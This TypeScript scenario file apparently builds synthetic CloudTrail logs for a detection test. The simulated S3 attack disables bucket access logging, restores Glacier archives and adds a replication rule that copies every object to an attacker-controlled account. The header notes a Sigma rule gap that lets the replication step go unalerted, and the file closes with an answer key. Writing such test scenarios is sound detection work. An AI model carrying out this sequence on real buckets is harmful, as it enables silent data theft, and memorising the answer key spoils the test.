/**
 * Playbook: re-plumb a bucket to steal its data quietly (MITRE T1537, T1562.008).
 *
 * With a storage admin's leaked key, the attacker turns off the bucket's server access
 * logging, restores archived objects from Glacier so they can be read, and adds a
 * replication rule that copies every new object to a bucket in an account they control.
 *
 * Detection: Sigma 78b3756a (S3 Data Management Tampering) fires on PutBucketLogging and
 * RestoreObject. The replication change is logged as PutBucketReplication, but the rule
 * lists the IAM permission name PutReplicationConfiguration, which never appears as an
 * eventName, so the exfiltration step itself raises no alert.
 */
import { defineScenario, type CallOptions, type JsonObject } from 'trailsim';

const BOTO = 'Boto3/1.34.34 md/Botocore#1.34.34 ua/2.0 os/linux#6.1.0-18-amd64 md/arch#x86_64 lang/python#3.11.2 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.34';

export default defineScenario({
  name: 'attack-s3-data-management-tampering',
  description: 'A leaked storage-admin key disables bucket access logging, restores Glacier objects and replicates the bucket to an attacker account.',
  title: 'S3 access logging disabled and bucket replicated to an attacker',
  attack: { techniques: ['T1537', 'T1562.008'], tactics: ['exfiltration', 'defense-evasion'] },
  references: [
    'https://attack.mitre.org/techniques/T1537/',
    'https://docs.aws.amazon.com/AmazonS3/latest/userguide/replication.html',
  ],
  seed: 4132,
  start: '2026-04-09T06:00:00Z',
  targets: ['78b3756a-7804-4ef7-8555-7b9024a02e2d'],
  run({ sim, log, answer }) {
    const ATTACKER_IP = sim.attackerIp('attacker');
    const acct = sim.addAccount({ name: 'data', alias: 'acme-data', regions: ['us-east-1'] });
    sim.addTraffic({ rate: '120/h' });
    const user = acct.iamUser('storage-admin');
    const act = (op: string, params?: JsonObject, opts: CallOptions = {}) => sim.call(user, op, params, { sourceIPAddress: ATTACKER_IP, userAgent: BOTO, ...opts });
    const bucket = acct.resources('AWS::S3::Bucket')[0].name;
    log(`account ${acct.id}; bucket ${bucket}; attacker at ${ATTACKER_IP}`);

    sim.advanceTo('2026-04-09T11:11:00Z');
    act('s3:GetBucketLogging', { bucketName: bucket });
    sim.advance('20s');
    act('s3:PutBucketLogging', { bucketName: bucket, BucketLoggingStatus: {} });
    sim.advance('2m');
    for (const key of ['archive/2025/ledger-q3.csv.gz', 'archive/2025/ledger-q4.csv.gz']) {
      act('s3:RestoreObject', { bucketName: bucket, key, RestoreRequest: { Days: 3, GlacierJobParameters: { Tier: 'Expedited' } } });
      sim.advance('5s');
    }
    sim.advance('3m');
    act('s3:PutBucketReplication', {
      bucketName: bucket,
      ReplicationConfiguration: {
        Role: `arn:aws:iam::${acct.id}:role/s3-replication-role`,
        Rule: { ID: 'dr-copy', Status: 'Enabled', Priority: 1, Filter: { Prefix: '' }, DeleteMarkerReplication: { Status: 'Disabled' }, Destination: { Bucket: 'arn:aws:s3:::dr-backup-eu-7730', Account: '731942086655' } },
      },
    });

    sim.advanceTo('2026-04-09T15:00:00Z');
    answer(
      'What did the attacker change on the bucket?',
      sim.records().filter((r) => r.sourceIPAddress === ATTACKER_IP).map((r) => `${r.eventTime} ${r.eventName}${r.requestParameters?.key ? ` ${r.requestParameters.key}` : ''}`),
    );
  },
});
